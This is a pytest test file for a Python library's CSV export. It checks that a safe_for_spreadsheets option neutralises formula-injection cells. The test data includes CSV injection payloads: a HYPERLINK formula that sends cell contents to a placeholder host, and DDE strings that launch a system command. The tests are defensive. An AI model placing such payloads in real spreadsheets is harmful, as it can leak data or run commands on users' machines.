"""Text that a program for spreadsheets would run as a formula can be defused, at a known cost."""

import csv
from pathlib import Path

import pytest

import bilateral as bl

pytest.importorskip("pyarrow")

FORMULAS = [
    '=HYPERLINK("https://example.invalid/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\uff1d1+1",
]  # fmt: skip
HARMLESS = ["Roadmap", "-5", "+12.5", "1=1", "a@b", "'quoted'"]
DOSSIER = bl.Dossier(
    [bl.Leader(id=f"l-{n}", name=text) for n, text in enumerate(FORMULAS + HARMLESS)]
)


def names(folder: Path) -> list[str]:
    cells = []
    for path in folder.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as stream:
            for row in csv.DictReader(stream):
                cells += [cell for cell in row.values() if cell]
    return cells


def test_no_cell_of_a_safe_folder_is_a_formula(tmp_path: Path) -> None:
    bl.write_tables(DOSSIER, tmp_path / "t", format="csv", safe_for_spreadsheets=True)
    cells = names(tmp_path / "t")
    for text in FORMULAS:
        assert text not in cells
        assert f"'{text}" in cells
    assert set(HARMLESS) <= set(cells)
    assert not [cell for cell in cells if cell[0] in "=@\t\r\uff1d"]


def test_without_the_option_every_text_comes_back_as_it_was(tmp_path: Path) -> None:
    bl.write_tables(DOSSIER, tmp_path / "t", format="csv")
    assert bl.from_frames(bl.read_tables(tmp_path / "t")) == DOSSIER


def test_parquet_needs_no_defusing_and_says_so(tmp_path: Path) -> None:
    with pytest.raises(bl.InvalidValueError, match="safe_for_spreadsheets: is for CSV"):
        bl.write_tables(DOSSIER, tmp_path / "t", safe_for_spreadsheets=True)
    assert not (tmp_path / "t").exists()
